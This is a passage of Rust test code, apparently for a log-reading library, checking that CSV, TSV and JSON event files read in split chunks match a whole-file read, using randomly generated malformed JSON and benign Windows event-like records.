        }
        let (name, format) = [("r.csv", InputFormat::Csv), ("r.tsv", InputFormat::Tsv)][round % 2];
        let p = write(dir.path(), name, &body);
        let files = vec![spoor_input::InputFile::new(&p)];
        let cap = [2_048, 1 << 20][round % 2];
        let read = |split_bytes| {
            let opts = ReadOptions {
                split_bytes,
                max_line_bytes: cap,
                format: Some(format),
                ..ReadOptions::default()
            };
            read_with(&files, &opts)
        };
        let (whole, st_whole, _) = read(u64::MAX);
        let split_bytes = 65_536 + next(60_000);
        let (got, st, units) = read(split_bytes);
        assert_eq!(
            got, whole,
            "round {round}, split {split_bytes}, {units} units"
        );
        assert_eq!(
            st, st_whole,
            "round {round}, split {split_bytes}, {units} units"
        );
        eprintln!("round {round}: {units} units, {} events", st[0].events);
        split_rounds += usize::from(units > 1);
    }
    assert!(
        split_rounds >= 12,
        "only {split_rounds} of 24 files were split"
    );
}

/// A large JSON array (pretty-printed with CRLF, or all on one line) is read in chunks that start
/// between elements: strings holding brackets, commas, quotes and escaped quotes never move a
/// cut, and every event, index, line number and count is what one reader of the whole file gives.
#[test]
fn large_json_arrays_are_chunked_between_elements() {
    let dir = tempfile::tempdir().unwrap();
    for (name, sep, eol) in [("pretty.json", ",\r\n  ", "\r\n"), ("flat.json", ",", "")] {
        let mut body = format!("\u{feff}[{eol}  ");
        for i in 0..6_000 {
            if i > 0 {
                body.push_str(sep);
            }
            body.push_str(&format!(
                r#"{{"EventID": 4688, "n": {i}, "CommandLine": "cmd /c \"echo ],[{{}}\\\" {i}\"", "tags": [1, [2, {{"x": "}}]"}}]]}}"#
            ));
        }
        body.push_str(&format!("{eol}]{eol}"));
        let p = write(dir.path(), name, body.as_bytes());
        let files = vec![spoor_input::InputFile::new(&p)];
        let (whole, st_whole, whole_units) = read_split(&files, u64::MAX);
        let (got, st, units) = read_split(&files, 100_000);
        assert_eq!(whole_units, 1);
        assert!(units >= 4, "{name}: {units} units");
        assert_eq!(st_whole[0].events, 6_000, "{name}: {:?}", st_whole[0]);
        assert_eq!(st_whole[0].unparsed, 0, "{name}: {:?}", st_whole[0]);
        assert_eq!(got, whole, "{name}");
        assert_eq!(st, st_whole, "{name}");
        let last = got.last().unwrap();
        assert_eq!(last.origin.position, Position::Index(6_000));
        assert_eq!(
            last.get("CommandLine"),
            Some(&Value::Str(r#"cmd /c "echo ],[{}\" 5999""#.into()))
        );
    }
}

/// Random JSON arrays of hostile pieces (stray closers, brackets and commas in strings, escapes,
/// scalars, every line end, elements over the cap, nested arrays, values after the array, a
/// string left open, a truncated end) read the same split and whole. (Scalars are followed by a
/// comma: one glued to a container ends at its first comma, and the container's `]` would then
/// close the array early, which only one round in four is meant to do.)
#[test]
fn random_json_arrays_read_the_same_split_and_whole() {
    let dir = tempfile::tempdir().unwrap();
    let mut seed = 0x2545_f491_4f6c_dd1du64;
    let mut next = move |n: u64| {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        seed % n
    };
    let pieces: [&[u8]; 16] = [
        br#"{"a": 1}"#,
        br#"{"s": "],}{[,"}"#,
        br#"{"e": "\"\\"}"#,
        b",",
        b"\n",
        b"\r\n",
        b"\r",
        b" ",
        b"},",
        b"[]",
        b"7,",
        br#""str","#,
        br#"[1, {"b": [2]}]"#,
        br#"{"u": "\ud800"}"#,
        b"{\"nl\": \"a\r\nb\"}",
        b"{\"x\": 1}},",
    ];
    let mut split_rounds = 0;
    for round in 0..24 {
        let mut body = b"[".to_vec();
        let mut stray_close = round % 4 == 3;
        let mut lone_quote = round % 4 == 1;
        while body.len() < 300_000 {
            if stray_close && body.len() > 250_000 {
                // The array closes early: what follows is read as top-level values.
                body.push(b']');
                stray_close = false;
            }
            if lone_quote && body.len() > 200_000 {
                // A string that never closes where it should: the rest is one long element.
                body.push(b'"');
                lone_quote = false;
            }
            match next(50) {
                0 => {
                    // An element over the small cap.
                    body.extend_from_slice(b"{\"big\": \"");
                    body.extend(std::iter::repeat_n(b'z', 3_000));
                    body.extend_from_slice(b"\"}");
                }
                1..=20 => body.extend_from_slice(br#"{"EventID": 1, "Image": "C:\\w.exe"},"#),
                _ => body.extend_from_slice(pieces[next(pieces.len() as u64) as usize]),
            }
        }
        match round % 3 {
            0 => body.extend_from_slice(b"]\n{\"after\": true}\n"),
            1 => body.extend_from_slice(b"\n]"),
            _ if round % 2 == 0 => body.extend_from_slice(b"{\"cut\": \"of"),
            _ => body.extend_from_slice(b",\n"), // the array never closed
        }
        let p = write(dir.path(), "r.json", &body);
        let files = vec![spoor_input::InputFile::new(&p)];
        let cap = [2_048, 1 << 20][round % 2];
        let read = |split_bytes| {
            let opts = ReadOptions {
                split_bytes,
                max_line_bytes: cap,
                format: Some(InputFormat::Json),
                ..ReadOptions::default()
            };
            read_with(&files, &opts)
        };
        let (whole, st_whole, _) = read(u64::MAX);
        let split_bytes = 65_536 + next(60_000);
        let (got, st, units) = read(split_bytes);
        assert_eq!(
            got, whole,
            "round {round}, split {split_bytes}, {units} units"
        );
        assert_eq!(
            st, st_whole,
            "round {round}, split {split_bytes}, {units} units"
        );
        eprintln!(
            "round {round}: {units} units, {} events, {} unparsed",
            st[0].events, st[0].unparsed
        );
        split_rounds += usize::from(units > 1);
    }
    assert!(
        split_rounds >= 12,
        "only {split_rounds} of 24 files were split"
    );
}
